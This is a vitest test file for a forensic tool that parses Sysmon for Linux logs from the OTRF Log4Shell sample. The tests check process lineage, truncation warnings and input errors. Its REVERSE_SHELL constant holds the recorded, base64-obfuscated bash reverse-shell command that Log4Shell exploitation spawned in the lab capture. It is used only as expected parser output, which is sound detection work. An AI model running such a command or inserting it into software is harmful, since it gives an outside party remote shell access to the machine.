import { readFileSync, writeFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { InputError } from '../../src/util/errors.js';
import { HAVE_DATASETS, edges, newCase, proc, processes, sample } from './sample-case.js';

const LOG4SHELL = 'otrf/log4shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json';
const REVERSE_SHELL = 'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}';

describe.skipIf(!HAVE_DATASETS)('Sysmon for Linux reader on the OTRF Log4Shell sample (Sentinel JSON rows)', () => {
  let c: ReturnType<typeof newCase>;
  afterEach(() => c?.close());

  it('tomcat java spawns the reverse shell, whose children are linked by ProcessGuid', async () => {
    c = newCase();
    const r = await c.import(sample(LOG4SHELL));
    expect(r.format).toBe('sysmon');
    const ps = processes(c.db, 'UBUNTU5');
    const bash = proc(ps, 17790);
    expect(bash.parentPid).toBe(1340);
    expect(bash.images.at(-1)!.cmdline).toBe(REVERSE_SHELL);
    expect(bash.images.at(-1)!.exepath).toBe('/bin/bash');
    expect(bash.images.at(-1)!.argv).toEqual(REVERSE_SHELL.split(' ').slice(1));
    const java = proc(ps, 1340);
    expect(java.origin).toBe('inferred');
    expect(java.images[0]!.exepath).toBe('/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java');
    expect(java.images[0]!.cmdline).toMatch(/^java -Djava\.util\.logging\.config\.file=\/opt\/tomcat\/conf\/logging\.properties /);
    expect(edges(ps)).toEqual(expect.arrayContaining(['1340>17790', '17790>17793', '17790>17794', '17794>17806', '17806>17832']));
    expect(proc(ps, 17793).images.at(-1)!.cmdline).toBe('base64 -d');
    expect(proc(ps, 17832).images.at(-1)!.cmdline).toBe('whoami');
    const user = c.db.prepare("SELECT user_name, uid, cwd FROM execs WHERE pid = 17790 AND kind = 'exec'").get();
    expect(user).toEqual({ user_name: 'tomcat', uid: 1001n, cwd: '/' });
  });

  it('flaws: zero parent GUIDs fall back to the pid, a syslog-truncated event is kept with a warning, exec in place chains', async () => {
    c = newCase();
    const r = await c.import(sample(LOG4SHELL));
    const warning = c.db.prepare('SELECT line, message FROM capture_warnings WHERE capture_id = ?').all(r.captureId);
    expect(warning).toEqual([{ line: 8n, message: 'Sysmon event cut short (syslog message size limit): ParentCommandLine is incomplete' }]);
    const ps = processes(c.db);
    // groups (17798) names parent 17797 with an all-zero GUID: a placeholder by pid
    expect(proc(ps, 17798).parentPid).toBe(17797);
    expect(proc(ps, 17797).origin).toBe('inferred');
    // dpkg 17809 execs dpkg-query in place: Sysmon gives it a new GUID (and logs both in the
    // same millisecond, dpkg-query first), pedigree one process with both images
    expect(
      proc(ps, 17809)
        .images.filter((i) => i.kind === 'exec')
        .map((i) => i.cmdline)
        .sort(),
    ).toEqual(['dpkg -S /bin/bash', 'dpkg-query --search -- /bin/bash']);
    expect(proc(ps, 17809).parentPid).toBe(2813);
    // every ProcessCreate is one exec row
    expect(c.db.prepare("SELECT count(*) AS n FROM execs WHERE kind = 'exec'").get()).toEqual({ n: 31n });
  });

  it('raw syslog lines carry the same events', async () => {
    c = newCase();
    const rows = readFileSync(sample(LOG4SHELL), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { EventTime: string; SyslogMessage: string });
    const file = c.path('syslog');
    writeFileSync(file, rows.map((o) => `May 11 18:10:20 UBUNTU5 sysmon: ${o.SyslogMessage}`).join('\n'));
    await c.import(file);
    const ps = processes(c.db);
    expect(proc(ps, 17790).parentPid).toBe(1340);
    expect(proc(ps, 17790).images.at(-1)!.cmdline).toBe(REVERSE_SHELL);
  });

  it('a damaged event names file and line', async () => {
    c = newCase();
    const lines = readFileSync(sample(LOG4SHELL), 'utf8').trim().split('\n');
    lines[9] = lines[9]!.replace('\\u003cData Name=\\"ProcessId\\"\\u003e', '\\u003cData Name=\\"ProcessId\\"\\u003ex');
    const file = c.path('bad.json');
    writeFileSync(file, lines.join('\n'));
    const err = await c.import(file).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(InputError);
    expect((err as InputError).location).toEqual({ file, line: 10 });
    expect((err as InputError).message).toMatch(/without a numeric ProcessId/);
    expect((await c.import(file, { skipBad: true })).warnings).toBe(2);
  });
});
